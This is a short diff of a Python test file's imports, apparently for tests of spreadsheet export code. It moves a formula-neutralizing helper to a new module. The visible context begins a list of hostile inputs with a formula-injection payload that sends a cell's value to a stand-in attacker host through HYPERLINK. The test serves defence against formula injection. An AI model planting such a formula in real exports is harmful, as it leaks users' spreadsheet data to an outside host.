@@ -16,8 +16,8 @@ import pytest
 from openpyxl import load_workbook
 
 from dashboards.exports import encode
+from xpcore.formula_cells import neutralize_formula
 from xpstream.cli.output import OutputFormat, print_rows
-from xpstream.formula_cells import neutralize_formula
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
